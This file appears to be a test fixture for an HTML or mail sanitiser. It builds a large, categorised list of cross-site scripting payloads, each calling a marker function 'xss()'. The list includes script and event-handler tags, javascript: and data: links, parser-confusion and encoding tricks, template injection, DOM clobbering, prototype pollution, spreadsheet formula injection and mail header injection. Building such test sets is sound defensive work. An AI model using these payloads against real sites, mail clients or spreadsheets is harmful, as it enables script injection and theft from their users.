// What a hostile mail could bring: text that runs where somebody takes it for HTML, a link, a template or a formula.
//
// Each calls `xss`, so that a page that has such a function knows when one ran. They are made of families, since a
// mistake lets in a kind of them and not a single one.

const CALL = 'xss()';
const IMAGE = `<img src=x onerror=${CALL}>`;
const encode = (text) => Buffer.from(text).toString('base64');
const entities = (text, write) => [...text].map((letter) => write(letter.codePointAt(0))).join('');

/** Elements that run something by themselves, as soon as they are on a page. */
const BY_THEMSELVES = [
  `<script>${CALL}</script>`,
  `<script>${CALL}//`,
  `<script type=module>${CALL}</script>`,
  `<script type=text/javascript>${CALL}</script >`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script/x>`,
  `<script\n>${CALL}</script\n>`,
  `<script\t>${CALL}</script>`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script>/*<!--*/${CALL}/*-->*/</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script src=data:,${CALL}></script>`,
  `<script>import('data:text/javascript,parent.${CALL}')</script>`,
  `<script>setTimeout('${CALL}')</script>`,
  `<script>Function('${CALL}')()</script>`,
  `<script>\`\${${CALL}}\`</script>`,
  `<script>[]['constructor']['constructor']('${CALL}')()</script>`,
  IMAGE,
  `<IMG SRC=x ONERROR=${CALL}>`,
  `<img src=x onerror="${CALL}">`,
  `<img src=x onerror='${CALL}'>`,
  `<img src=x onerror=\`${CALL}\`>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x:x onerror=${CALL}//`,
  `<img src onerror=${CALL}>`,
  `<img src=x onerror\n=\n${CALL}>`,
  `<img src=x onerror=&#120;&#115;&#115;()>`,
  `<img src=x onerror=xss&lpar;&rpar;>`,
  `<img src=x onerror=xss\u0026#40;)>`,
  `<img src=x onerror=top['x'+'ss']()>`,
  `<img srcset=x onerror=${CALL}>`,
  `<picture><source srcset=x><img onerror=${CALL}></picture>`,
  `<image src=x onerror=${CALL}>`,
  `<input type=image src=x onerror=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<video poster=javascript:${CALL} src=x onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<audio><source src=x onerror=${CALL}></audio>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg onload=${CALL}//`,
  `<svg><svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script>&#120;ss()</script></svg>`,
  `<svg><script href=data:text/javascript,${CALL} /></svg>`,
  `<svg><script xlink:href=data:,${CALL} /></svg>`,
  `<svg><image href=x onerror=${CALL}></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><animateTransform onbegin=${CALL} attributeName=transform>`,
  `<svg><foreignObject><iframe onload=${CALL}></iframe></foreignObject></svg>`,
  `<svg><style>@keyframes x{}</style><g style="animation:x 1s" onanimationstart=${CALL}></g></svg>`,
  `<math><mtext><script>${CALL}</script></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
  `<iframe onload=${CALL}></iframe>`,
  `<iframe src=javascript:parent.${CALL}></iframe>`,
  `<iframe src=" javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${CALL}</script>"></iframe>`,
  `<object data=x onerror=${CALL}></object>`,
  `<object data=javascript:${CALL}></object>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src=javascript:${CALL}>`,
  `<embed src="data:text/html,<script>${CALL}</script>">`,
  `<link rel=stylesheet href=x onerror=${CALL}>`,
  `<link rel=preload as=script href=data:, onload=${CALL}>`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<style onload=${CALL}></style>`,
  `<style>@import 'x';</style onload=${CALL}>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${CALL}></b>`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<frameset onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<details ontoggle=${CALL} open><summary>x</summary></details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<button autofocus onfocus=${CALL}>x</button>`,
  `<a href=# autofocus onfocus=${CALL} tabindex=0>x</a>`,
  `<div contenteditable autofocus onfocus=${CALL}>x</div>`,
  `<x tabindex=0 autofocus onfocus=${CALL}></x>`,
  `<dialog open autofocus tabindex=0 onfocus=${CALL}></dialog>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<marquee loop=1 width=0 onfinish=${CALL}>x</marquee>`,
  `<track default onerror=${CALL}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${CALL}</script>">`,
  `<base href=javascript:/a/-${CALL}//>`,
  `<custom-element onload=${CALL}>`,
  `<bounce-wijzer value="${CALL}" onload=${CALL}></bounce-wijzer>`,
];

/** What waits for the reader. */
const HANDLERS = [
  'click', 'dblclick', 'mouseover', 'mouseenter', 'mousemove', 'pointerover', 'pointerenter', 'pointermove', 'pointerrawupdate', 'wheel',
  'copy', 'cut', 'paste', 'beforecopy', 'drag', 'dragover', 'drop', 'keydown', 'input', 'beforeinput', 'scroll', 'scrollend', 'focusin',
  'contextmenu', 'auxclick', 'selectstart', 'touchstart', 'beforetoggle', 'contentvisibilityautostatechange', 'transitionend',
].map((name) => `<b style="display:block" on${name}=${CALL}>x</b>`);

/** Links, and what else has an address. */
const SCHEMES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `\u0001javascript:${CALL}`,
  ` javascript:${CALL}`, `javascript://x.nl/%0A${CALL}`, `javascript&colon;${CALL}`, `&#106;avascript:${CALL}`, `jav&#x09;ascript:${CALL}`,
  `javascript:/*x.nl*/${CALL}`, `view-source:javascript:${CALL}`, `vbscript:${CALL}`, `livescript:${CALL}`, `mocha:${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,${encode(`<script>${CALL}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`, `blob:null/${CALL}`, `filesystem:${CALL}`,
];
const PLACES = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<button formaction="${url}" form=x>x</button>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<map><area href="${url}" shape=default></map>`,
];
const LINKS = [...SCHEMES, ...SCHEMES.map((url, number) => PLACES[number % PLACES.length](url)), '<svg><a><animate attributeName=href values=javascript:xss() /><text y=9>x</text></a></svg>'];

/** Ends of what a careless page would put it in, with something that runs behind. */
const ENDS = [
  '"', "'", '`', '">', "'>", '"/>', '" ', "' ", '</textarea>', '</title>', '</style>', '</script>', '</noscript>', '</template>', '</iframe>',
  '</xmp>', '</svg>', '</math>', '</select>', '</option>', '</p>', '</pre>', '</blockquote>', '-->', '--!>', ']]>', '?>', '%>', '*/', '\\"', '\\',
].map((end) => end + IMAGE);
const INSIDE = [
  `" onmouseover="${CALL}`, `' onfocus='${CALL}' autofocus='`, `\` onfocus=${CALL} autofocus=\``, `x onerror=${CALL} y`, `" style="animation:x" onanimationstart="${CALL}`,
  `';${CALL};'`, `";${CALL};"`, `\`;${CALL};\``, `\\';${CALL}//`, `'-${CALL}-'`, `\u2028${CALL}\u2029`, `</b onclick=${CALL}>`,
];

/** What becomes something else when it is read a second time. */
const TWICE = [
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<svg></p><style><a title="</style>${IMAGE}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<svg><style>&lt;img src=x onerror=${CALL}&gt;</style></svg>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<xmp><p title="</xmp>${IMAGE}">`,
  `<template><p title="</template>${IMAGE}"></template>`,
  `<select><template>${IMAGE}</template></select>`,
  `<table><td><script>${CALL}</script></table>`,
  `<![CDATA[><${IMAGE}]]>`,
  `<!--><${IMAGE}-->`,
  `<!--->${IMAGE}-->`,
  `<!-- --!>${IMAGE}-->`,
  `<!${IMAGE}`,
  `<?x ${IMAGE}?>`,
  `</ ${IMAGE}`,
  `<plaintext>${IMAGE}`,
  `<p id="&quot;><img src=x onerror=${CALL}>">`,
  `<textarea><p title="</textarea>${IMAGE}">`,
  `<iframe><p title="</iframe>${IMAGE}"></iframe>`,
  `<a title="a${'&gt;'.repeat(3)}${IMAGE}">`,
];

/** The same in other letters. */
const SCRIPT = `<script>${CALL}</script>`;
const WRITTEN_OTHERWISE = [
  entities(SCRIPT, (code) => `&#${code};`), entities(SCRIPT, (code) => `&#x${code.toString(16)};`), entities(SCRIPT, (code) => `&#${code}`),
  entities(SCRIPT, (code) => `&#000${code};`), `&lt;script&gt;${CALL}&lt;/script&gt;`, `&LT;script&GT;${CALL}&LT;/script&GT;`, `&amp;lt;script&amp;gt;${CALL}`,
  encodeURIComponent(SCRIPT), encodeURIComponent(encodeURIComponent(SCRIPT)), entities(SCRIPT, (code) => `\\u00${code.toString(16)}`),
  entities(SCRIPT, (code) => `\\x${code.toString(16)}`), entities(SCRIPT, (code) => `=${code.toString(16).toUpperCase()}`), encode(SCRIPT),
  `=?utf-8?B?${encode(SCRIPT)}?=`, `=?utf-8?Q?=3Cimg_src=3Dx_onerror=3Dxss()=3E?=`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  entities(SCRIPT, (code) => String.fromCodePoint(code === 32 ? 32 : code + 0xfee0)), `\uFEFF${SCRIPT}`, `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `<\u0000script>${CALL}</script>`, `<\u200Bimg src=x onerror=${CALL}>`, `\u202E${SCRIPT}\u202C`, `<ſcript>${CALL}</ſcript>`, `<\u00A0img src=x onerror=${CALL}>`,
  `\u00BCscript\u00BE${CALL}\u00BC/script\u00BE`, `\u2039script\u203A${CALL}`, `<img\u2028src=x\u2028onerror=${CALL}>`, `<img\fsrc=x\fonerror=${CALL}>`,
];

/** What a template, a style sheet, a spreadsheet, a mail program or a program would run. */
const ELSEWHERE = [
  `{{constructor.constructor('${CALL}')()}}`, `{{$on.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`, `{%${CALL}%}`, `[[${CALL}]]`,
  `{{=${CALL}}}`, `{#if ${CALL}}{/if}`, `<b ng-app ng-init="${CALL}">`, `<b v-html="'${IMAGE}'">`, `<b @click="${CALL}">`, `<b x-data x-init="${CALL}">`,
  `<b data-bind="click: ${CALL}">`, `<b hx-on:load="${CALL}">`, `<b style="width:expression(${CALL})">`, `<b style="background:url(javascript:${CALL})">`,
  `<style>*{background:url(javascript:${CALL})}</style>`, `<style>@import 'javascript:${CALL}';</style>`, `<b style="-moz-binding:url(data:,${CALL})">`,
  `<b style="behavior:url(#default#time2)" onbegin=${CALL}>`, '<form id=shadowRoot><input name=firstChild></form>', '<a id=customElements href=javascript:xss()></a>',
  '<img name=xss id=document>', '__proto__', 'constructor', '{"__proto__":{"innerHTML":"<img src=x onerror=xss()>"}}',
  '=HYPERLINK("javascript:xss()";"x")', "=cmd|' /C xss()'!A0", '+xss()', '-xss()', '@SUM(xss())', '\t=xss()', '"=xss()"', ';=xss();', '%0A=xss()',
  '?bcc=dief@x.nl&body=xss()', '&cc=dief@x.nl', '%26bcc=dief@x.nl', '%0D%0ABcc:%20dief@x.nl', '#javascript:xss()', '../../xss()', '?q=xss()#', '\\\\x.nl\\xss()',
];

/** Those that work in several places. */
const EVERYWHERE = [
  `'"\`--></style></title></textarea></script></template><svg/onload=${CALL}>`,
  `javascript:/*'/*"/*\`/*--></noscript></title></textarea></style></script>${IMAGE}//*/${CALL}`,
  `";${CALL};//';${CALL};//--></script>${IMAGE}`,
  `{{[].map.constructor('${CALL}')()}}'"><svg onload=${CALL}>\${${CALL}}`,
  `</textarea>${IMAGE}<a href="javascript:${CALL}">"onclick="${CALL}"</a>`,
];

export const PAYLOADS = [...new Set([
  ...BY_THEMSELVES, ...HANDLERS, ...LINKS, ...ENDS, ...INSIDE, ...TWICE, ...WRITTEN_OTHERWISE, ...ELSEWHERE, ...EVERYWHERE,
])];
